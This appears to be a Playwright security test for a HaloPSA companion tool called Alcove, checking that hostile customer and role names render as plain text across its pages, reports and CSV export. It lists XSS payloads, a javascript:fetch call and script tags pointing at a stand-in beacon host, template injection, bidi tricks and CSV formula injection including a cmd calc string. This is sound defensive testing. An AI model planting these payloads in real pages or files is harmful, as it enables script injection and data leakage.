/** Everything that HaloPSA or a file can tell, as markup, as links that run something, turned around, and far too long. */
import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { askAlcove, checkEverything, runToEnd, withCustomers } from '../alcove.ts';
import { consentBy } from '../fixing.ts';
import { expect, sidebarOf, test, until } from '../fixtures.ts';
import { sharedScene } from '../scene.ts';
import type { ClosedRoots } from '../browser/closed-roots.ts';

const host = 'acme.halopsa.com';
const evil = 'evil.example';
const beacon = `https://${evil}/beacon`;
const nasty = [
  `<img src="${beacon}" onerror="window.pwned=1">`,
  `"><script src="${beacon}"></script><svg onload="window.pwned=1">`,
  `javascript:fetch('${beacon}')`,
  `<a href="javascript:window.pwned=1">press</a>`,
  `<style>@import url(${beacon})</style><link rel=stylesheet href=${beacon}>`,
  `]]><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  '\u202Egnp.exe\u202C \u2066isolated\u2069 \u200Fright',
  '\u0000\u0007\uFFFF\uD800 lone',
  `{{constructor.constructor('window.pwned=1')()}} \${7*7}`,
  `=HYPERLINK("${beacon}","x")`,
  `+cmd|' /C calc'!A0`,
  '-2+3',
  '@SUM(1)',
];
const long = 'x'.repeat(100_000);
const names = [...nasty, ...nasty.map((text) => `Cove ${text}`), `${long} end`];

let asked: string[] = [];
const scene = sharedScene({
  world: {
    cove: false,
    extraHosts: [evil],
    consoles: [
      {
        serves: (each) => each === evil,
        handle: async (request) => {
          asked.push(request.url);
          return new Response('', { headers: { 'access-control-allow-origin': '*' } });
        },
      },
    ],
    tenants: [
      {
        host,
        state: 'broken:role-tickets-none',
        customers: names.map((name, at) => ({ id: at + 10, name })),
        adjust: (state) => {
          for (const [at, name] of names.entries()) {
            const category = state.categories[0];
            const role = state.roles.find((each) => !/cove/iu.test(each.name));
            if (category) state.categories.push({ ...category, id: 5000 + at, text: name });
            if (role) state.roles.push({ ...role, id: crypto.randomUUID(), idInt: 6000 + at, name });
          }
          for (const agent of state.agents) agent.name = `Jane ${nasty[0]}`;
        },
      },
    ],
  },
});

async function untouched(page: Page, what: string, roots?: ClosedRoots): Promise<void> {
  expect(await page.evaluate(() => Reflect.get(globalThis, 'pwned')), what).toBeUndefined();
  const links = () =>
    [...document.querySelectorAll<HTMLElement>('a[href], area, form[action], iframe, script:not([src]), img')].map(
      (each) => each.getAttribute('href') ?? each.getAttribute('src') ?? each.getAttribute('action') ?? each.localName,
    );
  const found = await page.evaluate(links);
  if (page.url().startsWith('chrome-extension:'))
    expect(
      found.filter((each) => /javascript:|evil|^script$|^iframe$/iu.test(each)),
      what,
    ).toEqual([]);
  if (roots) {
    const panel = await roots.get('complementary', 'Alcove');
    const inside = await panel.all('a, img[src^=http], script, iframe, [onerror], [onload]');
    for (const each of inside) expect(await each.attribute('href'), what).not.toMatch(/javascript:|evil/iu);
  }
  expect(asked, what).toEqual([]);
}
/** A name of 100,000 letters makes no page wider than its window. */
const fits = (page: Page): Promise<boolean> =>
  page.evaluate(() => document.documentElement.scrollWidth <= document.documentElement.clientWidth + 1);

test('beside HaloPSA, in every page of Alcove and in every file it is text and nothing else', async () => {
  test.setTimeout(120_000);
  const page = await scene.haloAs(host, 'administrator');
  const sidebar = await sidebarOf(page);
  await checkEverything(scene.alcove, sidebar, host);
  await sidebar.outcome('role-tickets-access', 'unmet');
  // The simulated console itself shows such names as text; what is asked for is Alcove's doing.
  asked = [];
  await untouched(page, 'sidebar', sidebar.roots);

  const app = await scene.app('#overview');
  const errors: string[] = [];
  app.on('pageerror', (error) => errors.push(error.message));
  const customers = names.map((name, at) => ({ id: `c${at}`, name, level: 'EndCustomer' }));
  const connectionId = await withCustomers(app, scene.world.halo.tenant(host), customers);
  await runToEnd(app, 'match', { connectionId });
  for (const step of ['overview', 'connect', 'customers', 'map', 'review', 'apply']) {
    await app.goto(app.url().replace(/#.*$/u, ''));
    await app.evaluate((hash) => void (location.hash = hash), step);
    await app.waitForLoadState();
    await until(() => app.evaluate(() => document.body.innerText.length > 40), { what: `the step ${step}` });
    await untouched(app, step);
    expect(await fits(app), `${step} is wider than its window`).toBe(true);
  }
  await app.evaluate(() => void (location.hash = 'map'));
  await app.getByRole('button', { name: 'CSV', exact: true }).click();
  const download = app.waitForEvent('download');
  await app.getByRole('button', { name: 'Export CSV' }).click();
  const csv = await readFile((await (await download).path()) ?? '', 'utf8');
  // No cell begins with what a spreadsheet takes for a formula.
  const cells = csv.split(/\r?\n/u).flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/u));
  expect(cells.filter((cell) => /^"?[\s\uFEFF]*[=+@-]/u.test(cell.replace(/^\uFEFF/u, '')))).toEqual([]);
  expect(csv).toContain('HYPERLINK');

  for (const path of [`report.html?host=${host}`, `diagnostics.html?host=${host}`]) {
    const own = await scene.alcove.open(path);
    // The report stands in a root of its own, which Playwright's locators enter.
    await expect(own.getByRole('cell').nth(4)).toBeAttached();
    await untouched(own, path);
    expect(await own.locator('a[href^="javascript:"], img[src^="http"], iframe, script:not([src])').count()).toBe(0);
    await own.close();
  }
  const consent = await consentBy(scene.alcove, () =>
    askAlcove(app, 'changes.plan', { host, requirements: ['role-tickets-access'] }),
  );
  await consent.getByRole('button', { name: /^Apply/u }).waitFor();
  await untouched(consent, 'consent');
  expect(await fits(consent)).toBe(true);
  expect(errors).toEqual([]);
});
